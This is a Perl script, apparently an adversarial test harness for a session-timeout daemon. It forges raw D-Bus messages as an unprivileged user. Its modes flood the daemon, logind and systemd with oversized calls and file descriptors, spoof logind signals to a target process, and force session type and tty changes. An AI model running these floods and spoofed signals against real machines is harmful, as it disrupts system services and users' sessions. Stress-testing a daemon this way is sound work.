# Attacks of an unprivileged user on the daemon over the system bus. A D-Bus library would refuse
# some of these messages. In Perl, which every Debian has.
#
#   mallory.pl silent SECONDS SESSION...   attaches as the agent of these desktops, never replies, lists sessions
#   mallory.pl calls  SECONDS KIND         calls the daemon: many, large or with descriptors
#   mallory.pl signals SECONDS PID         sends logind's signals to every connection of that process
#   mallory.pl asks    SECONDS WHOM        makes logind or PID 1 (systemd) compute large replies, and reads none
#   mallory.pl flips  SECONDS WHAT PAUSE SESSION
#                                          makes logind change the type of that session (and its tty, if
#                                          WHAT is "tty") every PAUSE seconds
#   mallory.pl moves  SECONDS UNIT GROUP PID...
#                                          makes PID 1 move these processes into that group of the unit
use strict;
use warnings;
use Errno;
use Socket;

my $BUS      = 'org.freedesktop.DBus';
my $BUS_PATH = '/org/freedesktop/DBus';
my $DAEMON   = 'org.sessiontimeout1';
my $PATH     = '/org/sessiontimeout1';
my $LOGIND   = '/org/freedesktop/login1';
my ($CALL, $SIGNAL, $NO_REPLY) = (1, 4, 1);
# asm/unistd.h
my $SENDMSG = `uname -m` =~ /aarch64/ ? 211 : 46;

my ($what, $seconds, @rest) = @ARGV;
my $until  = time() + $seconds;
my $serial = 0;
my $bus    = connect_to_bus();
{ silent => \&silent, calls => \&calls, signals => \&signals, asks => \&asks,
  flips => \&flips, moves => \&moves }->{$what}->(@rest);

sub silent {
    my @sessions = @_;
    for my $session (@sessions) {
        ask($DAEMON, $PATH, "$DAEMON.Manager", 'AttachAgent', 'ss', text($session) . text0('x11'));
    }
    print "attached\n";
    STDOUT->flush();
    my $list = message($CALL, $NO_REPLY, $DAEMON, $PATH, "$DAEMON.Manager", 'ListSessions', '', '');
    while (time() < $until) {
        put($list);
        select undef, undef, undef, 0.1;
    }
}

sub calls {
    my ($kind) = @_;
    my $id   = $kind eq 'big' ? 'x' x 4_000_000 : 'x' x 40;
    my $body = text($id) . text0('x11');
    my $call = message($CALL, $NO_REPLY, $DAEMON, $PATH, "$DAEMON.Manager", 'AttachAgent', 'ss', $body,
        $kind eq 'fds' ? 16 : 0);
    open my $null, '<', '/dev/null' or die;
    my $many = $kind eq 'many' ? $call x 50 : $call;
    while (time() < $until) {
        my $sent = eval {
            $kind eq 'fds' ? put_with_fds($many, (fileno $null) x 16) : put($many);
            1;
        };
        # The bus closes connections that exceed its limits.
        next if $sent;
        warn "$kind: $@";
        $bus = connect_to_bus();
    }
}

sub asks {
    my ($whom) = @_;
    my $call = $whom eq 'logind'
        ? message($CALL, $NO_REPLY, 'org.freedesktop.login1', $LOGIND, "$BUS.Properties", 'GetAll',
            's', text0('org.freedesktop.login1.Manager'))
        : message($CALL, $NO_REPLY, 'org.freedesktop.systemd1', '/org/freedesktop/systemd1',
            'org.freedesktop.systemd1.Manager', 'ListUnits', '', '');
    flood($call x 200);
}

sub moves {
    my ($unit, $group, @pids) = @_;
    my $body = text($unit) . text($group) . pack('V V*', 4 * @pids, @pids);
    my $call = message($CALL, $NO_REPLY, 'org.freedesktop.systemd1', '/org/freedesktop/systemd1',
        'org.freedesktop.systemd1.Manager', 'AttachProcessesToUnit', 'ssau', $body);
    flood($call x 20);
}

# Writes this until the time is over, on a new connection if the bus closes one.
sub flood {
    my ($calls) = @_;
    while (time() < $until) {
        next if eval { put($calls); 1 };
        warn "$what: $@";
        $bus = connect_to_bus();
    }
}

sub signals {
    my ($pid) = @_;
    my $names = ask($BUS, $BUS_PATH, $BUS, 'ListNames', '', '');
    my @theirs = grep {
        my $owner = ask($BUS, $BUS_PATH, $BUS, 'GetConnectionUnixProcessID', 's', text0($_));
        defined $owner && unpack('V', $owner) == $pid
    } $names =~ /(:1\.\d+)\0/g;
    die "no connection of $pid\n" unless @theirs;
    print "attached\n";
    STDOUT->flush();
    my $flood = '';
    for my $to (@theirs) {
        $flood .= message($SIGNAL, 0, $to, $LOGIND, 'org.freedesktop.login1.Manager', 'SessionNew',
            'so', text('c1') . text0('/org/freedesktop/login1/session/c1')) x 20;
        $flood .= message($SIGNAL, 0, $to, "$LOGIND/session/c1", "$BUS.Properties", 'PropertiesChanged',
            's', text0('org.freedesktop.login1.Session')) x 20;
        $flood .= message($SIGNAL, 0, $to, $BUS_PATH, $BUS, 'NameOwnerChanged', 'sss',
            text('org.freedesktop.login1') . text(':1.1') . text0('')) x 20;
    }
    put($flood) while time() < $until;
}

sub flips {
    my ($what, $pause, $session) = @_;
    my $manager = 'org.freedesktop.login1.Manager';
    my $path = ask('org.freedesktop.login1', $LOGIND, $manager, 'GetSession', 's', text0($session));
    $path = unpack 'V/a', $path // die "logind has no session $session\n";
    my $control = sub { ask('org.freedesktop.login1', $path, 'org.freedesktop.login1.Session', @_) };
    defined $control->('TakeControl', 'b', pack('V', 0)) or die "no control of $session\n";
    my @terminals = $what eq 'tty' ? terminals() : ();
    my $count = 0;
    print "attached\n";
    STDOUT->flush();
    while (time() < $until) {
        my $side = $count++ % 2;
        if (@terminals) {
            defined $control->('SetTTY', 'h', pack('V', 0), $terminals[$side]) or die "logind refuses a tty\n";
        }
        # logind signals a change of the type at once, but one of the tty only when it is read.
        defined $control->('SetType', 's', text0($side ? 'tty' : 'x11')) or die "logind refuses type $count\n";
        select undef, undef, undef, $pause;
    }
}

# Two terminals of its own: one named pts/10 to pts/19, and one with another name.
sub terminals {
    my (%found, @masters);
    while (keys %found < 2) {
        sysopen my $master, '/dev/ptmx', 2 or die "no terminal: $!\n";
        my $number = pack 'l', 0;
        # TIOCSPTLCK and TIOCGPTN of asm-generic/ioctls.h
        ioctl $master, 0x40045431, $number and ioctl $master, 0x80045430, $number or die "no pty: $!\n";
        $number = unpack 'l', $number;
        sysopen my $terminal, "/dev/pts/$number", 0400 | 2 or die "/dev/pts/$number: $!\n";
        $found{ $number =~ /^1\d$/ ? 'named' : 'other' } //= $terminal;
        push @masters, $master;
    }
    our @kept = @masters;
    return @found{ 'named', 'other' };
}

sub connect_to_bus {
    socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die;
    connect($s, sockaddr_un('/run/dbus/system_bus_socket')) or die "connect: $!\n";
    $bus = $s;
    put("\0AUTH EXTERNAL " . unpack('H*', $>) . "\r\n");
    line();
    put("NEGOTIATE_UNIX_FD\r\n");
    line();
    put("BEGIN\r\n");
    ask($BUS, $BUS_PATH, $BUS, 'Hello', '', '');
    return $s;
}

# Writes all bytes, and reads incoming ones meanwhile, since the bus may wait for that.
sub put {
    my ($bytes) = @_;
    my $at = 0;
    while ($at < length $bytes) {
        drain();
        my $sent = syswrite $bus, $bytes, length($bytes) - $at, $at;
        die "$what @rest: the bus has ended this: $!\n" unless defined $sent;
        $at += $sent;
    }
}

sub drain {
    my $ready = '';
    vec($ready, fileno($bus), 1) = 1;
    while (select(my $now = $ready, undef, undef, 0) > 0) {
        sysread($bus, my $dropped, 65536) or die "$what @rest: the bus has ended this\n";
    }
}

sub put_with_fds {
    drain();
    send_with_fds(@_);
}

sub send_with_fds {
    my ($bytes, @fds) = @_;
    my $control = pack('Q l l', 16 + 4 * @fds, SOL_SOCKET, 1) . pack('l*', @fds);
    my $vector  = pack('P Q', $bytes, length $bytes);
    my $message = pack('Q L x4 P Q P Q l x4', 0, 0, $vector, 1, $control, length $control, 0);
    until (syscall($SENDMSG, fileno $bus, $message, 0) > 0) {
        # The number of descriptors in transit is limited.
        $!{ETOOMANYREFS} or die "sendmsg: $!\n";
        select undef, undef, undef, 0.01;
    }
}

# The body of the reply; nothing for an error.
sub ask {
    my ($to, $path, $interface, $member, $signature, $body, @files) = @_;
    my $call = message($CALL, 0, $to, $path, $interface, $member, $signature, $body, scalar @files);
    my $mine = $serial;
    my $at   = 0;
    if (@files) {
        send_with_fds($call, map { fileno $_ } @files);
        $at = length $call;
    }
    $at += syswrite $bus, $call, length($call) - $at, $at while $at < length $call;
    while (1) {
        my $head = take(16);
        my ($type, $length, $fields) = (unpack('x C', $head), unpack('x4 V', $head), unpack('x12 V', $head));
        my $rest  = take($fields + -$fields % 8);
        my $reply = take($length);
        # The header field REPLY_SERIAL: code 5, of type u.
        my $answers = $rest =~ /\x05\x01u\0(....)/s ? unpack('V', $1) : 0;
        next unless $answers == $mine;
        return $type == 2 ? $reply : undef;
    }
}

sub message {
    my ($type, $flags, $to, $path, $interface, $member, $signature, $body, $fds) = @_;
    my $fields = '';
    my $field  = sub { $fields = pad($fields, 8) . pack('C C', $_[0], 1) . "$_[1]\0" . $_[2] };
    $field->(1, 'o', text0($path));
    $field->(2, 's', text0($interface));
    $field->(3, 's', text0($member));
    $field->(6, 's', text0($to));
    $field->(8, 'g', pack('C', length $signature) . "$signature\0") if $signature ne '';
    $field->(9, 'u', pack('V', $fds)) if $fds;
    my $head = pack('a C C C V V V', 'l', $type, $flags, 1, length $body, ++$serial, length $fields);
    return pad($head . $fields, 8) . $body;
}

# Encodes a string; the second function pads it for a following one.
sub text0 { pack('V', length $_[0]) . "$_[0]\0" }
sub text  { pad(text0($_[0]), 4) }

sub pad {
    my ($bytes, $to) = @_;
    return $bytes . "\0" x (-length($bytes) % $to);
}

sub take {
    my ($count) = @_;
    my $bytes = '';
    while (length $bytes < $count) {
        sysread($bus, $bytes, $count - length $bytes, length $bytes) or die "$what @rest: the bus has ended this\n";
    }
    return $bytes;
}

sub line {
    my $line = '';
    $line .= take(1) until $line =~ /\n$/;
    return $line;
}
